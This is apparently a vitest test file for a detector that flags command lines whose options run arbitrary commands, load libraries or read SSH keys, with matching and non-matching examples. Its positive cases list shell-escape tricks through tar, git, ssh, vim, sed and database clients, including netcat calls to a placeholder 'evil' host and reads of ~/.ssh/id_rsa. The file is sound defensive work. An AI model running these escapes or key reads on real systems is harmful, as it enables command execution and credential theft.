import { describe, expect, it } from 'vitest';
import { behaviourCases } from './behaviour.case.js';
import { OPTION_EFFECTS } from './option-effects.js';

describe('programs that run what their options say (one table of option -> effect)', () => {
  behaviourCases([
    {
      rule: 'exec.option-command',
      yes: [
        'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id',
        "tar -xf a.tar --to-command='nc host 1'",
        'rsync -e \'sh -c "id"\' x host:y',
        "rsync -ave 'sh -c id' x host:y",
        "zip out.zip a -T -TT 'id #'",
        "git -c core.pager='id' log",
        "git -c core.sshCommand='ncat evil 9' fetch",
        'git -c core.fsmonitor=./x status',
        "git -c alias.x='!id' x",
        "ssh -o ProxyCommand='id' host",
        'ssh -oLocalCommand=id -oPermitLocalCommand=yes host',
        "vim -c ':!id'",
        'nvim --cmd \'lua os.execute("id")\'',
        "less '+!id' README",
        "man -P 'sh -c id' ls",
        "make --eval='x:; id'",
        'apt-get check -o APT::Update::Pre-Invoke::=id',
        "gdb -batch -ex '!id'",
        "mysql -e '\\! id'",
        "psql -c '\\! id'",
        "sqlite3 db '.shell id'",
        "openvpn --config x.ovpn --up './hook'",
        "certbot renew --deploy-hook 'id'",
        "yt-dlp URL --exec 'id #'",
        "pdflatex '\\immediate\\write18{id}'",
        "echo 'esyscmd(id)' | m4",
        "sed -n '1e id' notes.txt",
        "git config --global core.pager 'sh -c id'",
        'npm config set script-shell /tmp/x',
      ],
      no: [
        'tar -czf out.tgz src',
        'tar -I pigz -cf out.tgz src',
        "rsync -e 'ssh -p 2222' -a src host:dst",
        'rsync -ave ssh ./site/ ./mirror/',
        'git -c user.name=x commit -m y',
        'git log --oneline',
        'vim notes.txt',
        'vim +12 notes.txt',
        'less README',
        'make -j4 test',
        'apt-cache policy curl',
        'gdb -batch -ex run ./a.out',
        'sqlite3 db "select 1"',
        "sed -n '1p' notes.txt",
        'git config --global user.email me@example.com',
        'npm config set registry https://registry.npmjs.org/',
      ],
    },
    {
      rule: 'exec.library-load',
      yes: [
        'ssh-keygen -D ./pkcs11.so',
        'mysql --default-auth ../../x/lib',
        'gcc -fplugin=./p.so x.c',
        "sqlite3 db '.load ./ext'",
      ],
      no: ['ssh-keygen -t ed25519 -f ./k', 'mysql -u me db'],
    },
    {
      rule: 'read.ssh-key',
      yes: ["sed '1r ~/.ssh/id_rsa' README.md", "sqlite3 db '.import /root/.ssh/id_rsa t'"],
      no: ["sed 's/a/b/' README.md"],
    },
  ]);

  it('is data: every row names programs and one way to match', () => {
    for (const row of OPTION_EFFECTS) {
      expect(row.programs.length).toBeGreaterThan(0);
      expect(Boolean(row.option) !== Boolean(row.script)).toBe(true);
    }
  });
});
